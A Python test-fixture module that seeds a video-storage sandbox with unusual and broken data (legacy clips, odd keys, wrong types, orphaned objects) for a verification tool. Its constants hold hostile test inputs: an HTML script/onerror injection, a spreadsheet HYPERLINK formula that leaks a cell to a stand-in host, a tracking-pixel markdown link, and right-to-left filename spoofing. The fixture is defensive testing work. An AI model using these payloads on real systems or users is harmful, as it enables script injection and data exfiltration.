"""Stories about unusual data, and stories for `verify`.

`add_odd_stories` has clips of older deployments, keys with every letter, hostile strings and wrong types.
`add_broken_stories` has every kind of finding that data alone can cause, each on a video of its own.
"""

from __future__ import annotations

from datetime import timedelta
from typing import Any

from storage.domain.layout import ClipName
from storage.sandbox.world.builder import MEDIA, Fields, SampleUpload, Story, WorldBuilder
from storage.sandbox.world.people import uid_of
from storage.sandbox.world.videos import (
    ABSENT,
    AddedClip,
    AddedVideo,
    VideoOrder,
    add_clip,
    add_video,
    add_with_clips,
    clip_name,
    unfinished_clip,
)

DAY = timedelta(days=1)
MARKDOWN = (
    "![pixel](https://example.invalid/pixel.png) **bold** [click me](https://example.invalid/steal) "
    ":material/delete: :red[red] $x^2$"
)
HTML = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\"> & <b>bold</b>"
FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1,"Quarterly report")'
REVERSED = "invoice_\u202egpj.4pm\u202c \u200f(right to left)\u200e"
CONTROLS = "bell \x07 escape \x1b[31mred\x1b[0m tab \t line\nbreak zero\u200bwidth"
STACKED = (
    "Z\u0338\u0322\u031ba\u0337\u0321l\u0334\u0328g\u0336\u0330o\u0335\u0355 "
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\U000e0067\U000e0062\U000e0073\U000e007f"
)
NAN = float("nan")  # one object, so that two worlds compare equal
KEY_TITLES = (
    "café au lait",
    "100% + more",
    "#1 of 3 & co",
    "naïve? yes=no",
    "Жёлтый_кадр",
    "e\u0301tude (nfd)",
    "it's ~fine~;ok",
)


def add_odd_stories(world: WorldBuilder) -> None:
    """Adds all stories about unusual data."""
    _legacy(world)
    _keys(world)
    _hostile(world)
    _wrong_types(world)


def _legacy(world: WorldBuilder) -> None:
    old: Fields = {
        "filename": "",
        "updated_at": ABSENT,
        "has_thumbnail": ABSENT,
        "created_by": ABSENT,
        "raw_r2_key": ABSENT,
    }
    order = VideoOrder("bjorn", "legacy clips", 300 * DAY, title="Åtta år på sjön", highlights="both", short_id=True)
    video = add_video(world, order, crop_mode=ABSENT, target_aspect=ABSENT, created_by=ABSENT)
    clips = [add_clip(world, video, *wanted, **old) for wanted in video.ordered()]
    shows = "Clips of an older deployment: empty filename, no updated_at, no has_thumbnail"
    world.tell(Story("legacy_clips", video.uid, shows, video.video_id, clips[0].clip_id, "healthy", key=clips[0].key))
    order = VideoOrder("bjorn", "without size", 310 * DAY, title="Höst över Öland", highlights="both", short_id=True)
    video = add_video(world, order)
    for number, scene, style in video.ordered():
        changes: Fields = {"file_size_bytes": ABSENT, "file_size_mb": ABSENT} if number in {1, 3} else {}
        clip = add_clip(world, video, number, scene, style, **changes)
    shows = "Two of four clips have no file_size_bytes: sums over them are lower bounds"
    world.tell(Story("without_size", video.uid, shows, video.video_id, clip.clip_id, "healthy"))
    order = VideoOrder(
        "agnes", "without prefix", 200 * DAY, title="Le pont des brumes", highlights="both", short_id=True
    )
    video, clips = add_with_clips(world, order)
    shows = "Everything of this older customer lies below the prefix 'users/'; the documents name those keys"
    world.tell(Story("with_prefix", video.uid, shows, video.video_id, clips[0].clip_id, "healthy", key=clips[0].key))


def _keys(world: WorldBuilder) -> None:
    order = VideoOrder(
        "rene", "keys", 250 * DAY, scenes=4, title="Clés & caractères : « tout » est permis", highlights="both"
    )
    video = add_video(world, order)
    for (number, scene, style), title in zip(video.ordered(), KEY_TITLES, strict=False):
        clip = add_clip(world, video, number, scene, style, name=ClipName(number, scene.number, title, style))
        shows = f"A key with unusual characters: {title!r}"
        name = f"key_{number}"
        world.tell(Story(name, video.uid, shows, video.video_id, clip.clip_id, "healthy", key=clip.key))


def _hostile(world: WorldBuilder) -> None:
    uid = uid_of("hostile")
    world.documents[f"users/{uid}"]["settings"] = {"display_name": HTML, "note": MARKDOWN, FORMULA: REVERSED}
    titles = (
        ("markdown", MARKDOWN),
        ("html", HTML),
        ("formula", FORMULA),
        ("reversed", REVERSED),
        ("controls", CONTROLS),
    )
    for number, (kind, title) in enumerate((*titles, ("stacked", STACKED))):
        video = add_video(world, VideoOrder("hostile", f"hostile {kind}", (2 + number) * DAY, title=title, scenes=1))
        for wanted in video.ordered():
            clip = add_clip(
                world, video, *wanted, scene_title=title, scene_description=title * 3, filename=f"{title}.mp4"
            )
        shows = f"Titles and descriptions that are {kind}"
        world.tell(Story(f"hostile_{kind}", uid, shows, video.video_id, clip.clip_id, "healthy"))
    message = f"Traceback: {HTML} {MARKDOWN} " + "worker died while encoding; " * 3_564
    order = VideoOrder(
        "hostile", "hostile error", 12 * DAY, "failed", highlights="none", title="A very long error message"
    )
    video = add_video(world, order, error_message=message)
    world.tell(
        Story(
            "hostile_error",
            uid,
            "An error message of some 100,000 characters",
            video.video_id,
            verdict="failed_transient",
        )
    )


def _wrong_types(world: WorldBuilder) -> None:
    order = VideoOrder("hostile", "wrong types", 14 * DAY, title="Fields of other types")
    changes: Fields = {
        "clips_count": "three",
        "total_size_bytes": None,
        "clips_by_style": [],
        "created_at": "2024-02-30",
    }
    video, clips = add_with_clips(world, order, **changes, highlights_count=-1, custom_prompt={"not": ["a", "text"]})
    world.documents[clips[0].path] |= {"style": "holo_wall_9000", "priority": "first", "duration_seconds": NAN}
    world.documents[clips[1].path] |= {"status": "archived", "created_at": None, "scene_id": 1.5}
    shows = "Fields hold another type than the backend writes; an unknown style and an unknown clip status"
    world.tell(Story("wrong_types", video.uid, shows, video.video_id, clips[0].clip_id))
    video = add_video(
        world, VideoOrder("hostile", "unknown status", 15 * DAY, "queued_v2", title="A status from the future")
    )
    story = Story(
        "unknown_status", video.uid, "The status is one that is not known", video.video_id, verdict="status_stuck"
    )
    world.tell(story)


def add_broken_stories(world: WorldBuilder) -> None:
    """Adds all stories for `verify`."""
    _without_object(world)
    _without_document(world)
    _contents(world)
    _odd_times(world)
    _broken_keys(world)
    _stale(world)
    _uploads(world)
    _phantom_videos(world)
    _phantom_user(world)


def _tell(
    world: WorldBuilder,
    name: str,
    video: AddedVideo,
    clip: AddedClip,
    verdict: str,
    shows: str,
    *findings: str,
    key: str = "",
) -> None:
    story = Story(name, video.uid, shows, video.video_id, clip.clip_id, verdict, findings, key or clip.key)
    world.tell(story)


def _one_odd_clip(world: WorldBuilder, name: str, title: str, days: int, **odd: Any) -> tuple[AddedVideo, AddedClip]:
    """Adds a completed video with four clips; `odd` changes the second one."""
    video = add_video(world, VideoOrder("marta", name, days * DAY, title=title))
    clips = [add_clip(world, video, *wanted, **(odd if wanted[0] == 2 else {})) for wanted in video.ordered()]
    return video, clips[1]


def _without_object(world: WorldBuilder) -> None:
    video, clip = _one_odd_clip(world, "empty object", "Pusta ramka", 3, has_object=False)
    world.store(clip.key, b"", "video/mp4", video.rendered_at)
    shows = "The object of one clip has 0 bytes"
    _tell(world, "empty_object", video, clip, "clips_missing", shows, "empty_object")
    video, clip = _one_odd_clip(world, "missing thumbnail", "Miniatura, której nie ma", 4, has_thumbnail=False)
    world.documents[clip.path] |= {"has_thumbnail": True, "thumbnail_r2_key": clip.thumbnail_key}
    shows = "One clip names a thumbnail that is not there; the clip itself plays"
    _tell(world, "missing_thumbnail", video, clip, "healthy", shows, "missing_thumbnail", key=clip.thumbnail_key)
    odd = {"has_object": False, "has_thumbnail": False, "r2_key": None, "thumbnail_r2_key": None}
    video, clip = _one_odd_clip(world, "without key", "Bez adresu", 5, **odd)
    shows = "One clip is completed, but its document names no key"
    _tell(world, "clip_without_key", video, clip, "clips_missing", shows, "clip_without_key")


def _without_document(world: WorldBuilder) -> None:
    video, clips = add_with_clips(
        world, VideoOrder("marta", "orphans", 6 * DAY, title="Zapomniane klatki", styles=("original",))
    )
    name = clip_name(video, 9, video.scenes[0], "streamer", "left_over")
    key, thumbnail = (
        make(video.uid, video.video_id, name) for make in (video.layout.clip_key, video.layout.thumbnail_key)
    )
    world.store(key, "clip_k.mp4", "video/mp4", video.rendered_at)
    world.store(thumbnail, "clip_k.jpg", "image/jpeg", video.rendered_at)
    shows = "A clip and its thumbnail lie in the bucket, and no document names them"
    _tell(world, "orphan_object", video, clips[0], "healthy", shows, "orphan_object", "orphan_object", key=key)


def _contents(world: WorldBuilder) -> None:
    """Objects of the right size with wrong contents."""
    whole = (MEDIA / "clip_c.mp4").read_bytes()
    silent = whole.replace(b"trak", b"free").replace(b"free", b"trak", 1)  # the picture is the first of the tracks
    page = b"<!DOCTYPE html><html><body><h1>502 Bad Gateway</h1></body></html>".ljust(2_048)
    wrong: tuple[tuple[str, str, bytes, Fields, str, str], ...] = (
        ("not_media", "Strona zamiast filmu", page, {}, "clips_missing", "an HTML page and no film"),
        ("truncated_media", "Urwany w połowie", whole[: len(whole) // 2], {}, "clips_missing", "cut off in the middle"),
        ("duration_mismatch", "Za krótki", whole, {"duration_seconds": 48.0}, "healthy", "shorter than it says"),
        ("no_audio_track", "Niemy", silent, {}, "healthy", "without a sound"),
        ("wrong_content_type", "Pod inną nazwą", whole, {}, "healthy", "called something else than a film"),
    )
    for number, (kind, title, content, changes, verdict, what) in enumerate(wrong):
        odd = {"has_object": False, "file_size_bytes": len(content), "duration_seconds": 5.0, **changes}
        video, clip = _one_odd_clip(world, kind, title, 11 + number, **odd)
        told = "text/plain" if kind == "wrong_content_type" else "video/mp4"
        world.store(clip.key, content, told, video.rendered_at)
        shows = f"One clip is as large as its document says, and {what}"
        _tell(world, kind, video, clip, verdict, shows, kind)


def _odd_times(world: WorldBuilder) -> None:
    video, clips = add_with_clips(world, VideoOrder("marta", "odd times", 17 * DAY, title="Koniec przed początkiem"))
    entries = world.documents[f"{video.path}/highlights/main"]["highlights"]
    entries[1] |= {"start": entries[1]["end"], "end": entries[1]["start"]}
    shows = "One entry of the highlights ends before it begins: its clip is there, and cannot be cut again"
    _tell(world, "invalid_times", video, clips[0], "healthy", shows, "invalid_times")


def _broken_keys(world: WorldBuilder) -> None:
    other = next(
        path
        for path in sorted(world.documents)
        if path.startswith(f"users/{uid_of('zoe')}/videos/") and "/clips/" in path
    )
    theirs = world.documents[other]
    video, clip = _one_odd_clip(world, "foreign key", "Cudzy klucz", 7, has_object=False, has_thumbnail=False)
    world.documents[clip.path] |= {name: theirs[name] for name in ("r2_key", "file_size_bytes", "file_size_mb")}
    shows = "One clip's document names an object of another customer, and it is there"
    _tell(world, "foreign_key", video, clip, "disclosure", shows, "foreign_key", key=theirs["r2_key"])
    video, clip = _one_odd_clip(world, "key outside", "Poza mapą", 8, has_object=False, has_thumbnail=False)
    outside = f"exports/2024/{video.video_id}/final cut.mp4"
    size = world.store(outside, "clip_c.mp4", "video/mp4", video.rendered_at).size
    world.documents[clip.path] |= {"r2_key": outside, "file_size_bytes": size, "file_size_mb": round(size / 1024**2, 3)}
    shows = "One clip's document names an object outside the layout"
    _tell(world, "foreign_key_outside", video, clip, "clips_missing", shows, "foreign_key", key=outside)
    video, clip = _one_odd_clip(world, "duplicate key", "Dwa razy to samo", 9, has_object=False, has_thumbnail=False)
    first = next(f for p, f in world.documents.items() if p.startswith(f"{video.path}/clips/") and f["priority"] == 1)
    world.documents[clip.path] |= {name: first[name] for name in ("r2_key", "file_size_bytes", "file_size_mb")}
    shows = "Two clips' documents name one object"
    _tell(world, "duplicate_key", video, clip, "healthy", shows, "duplicate_key", key=first["r2_key"])


def _stale(world: WorldBuilder) -> None:
    at = world.now - 2 * DAY
    changes = unfinished_clip({"created_at": at, "updated_at": at})
    video, clip = _one_odd_clip(
        world, "stale clip", "Wciąż w drodze", 2, has_object=False, has_thumbnail=False, **changes
    )
    shows = "The video is completed, but one clip has been 'processing' for two days"
    _tell(world, "stale_clip", video, clip, "healthy", shows, "stale_clip")


def _uploads(world: WorldBuilder) -> None:
    video, _ = add_with_clips(world, VideoOrder("marta", "unfinished upload", 4 * DAY, title="Przerwane wysyłanie"))
    key = video.layout.clip_key(video.uid, video.video_id, clip_name(video, 5, video.scenes[0], "streamer", "cut_off"))
    world.uploads.append(SampleUpload(key, 3 * DAY))
    shows = "A multipart upload was begun three days ago and neither completed nor aborted"
    world.tell(
        Story("unfinished_upload", video.uid, shows, video.video_id, None, "healthy", ("unfinished_upload",), key)
    )
    young = video.layout.clip_key(
        video.uid, video.video_id, clip_name(video, 6, video.scenes[1], "streamer", "on_its_way")
    )
    world.uploads.append(SampleUpload(young, timedelta(minutes=20)))


def _phantom_videos(world: WorldBuilder) -> None:
    for number, name in enumerate(("phantom video", "phantom video 2"), start=1):
        title = f"Apagado, mas não tudo ({number})"
        video, clips = add_with_clips(world, VideoOrder("lucas", name, (20 + number) * DAY, title=title))
        del world.documents[video.path]
        shows = "Clips lie below a video document that was deleted"
        story_name = "phantom_video" if number == 1 else "phantom_video_2"
        _tell(world, story_name, video, clips[0], "not_found", shows, "phantom_parent")


def _phantom_user(world: WorldBuilder) -> None:
    """A person deleted the user's document by hand; the documents below it and the objects stayed."""
    uid = uid_of("ghost")
    video, clips = add_with_clips(world, VideoOrder("ghost", "left behind", 50 * DAY, title="Was übrig blieb"))
    del world.documents[f"users/{uid}"]
    shows = "Videos and clips lie below a user document that was deleted"
    world.tell(Story("phantom_user", uid, shows, video.video_id, clips[0].clip_id, None, ("phantom_parent",)))
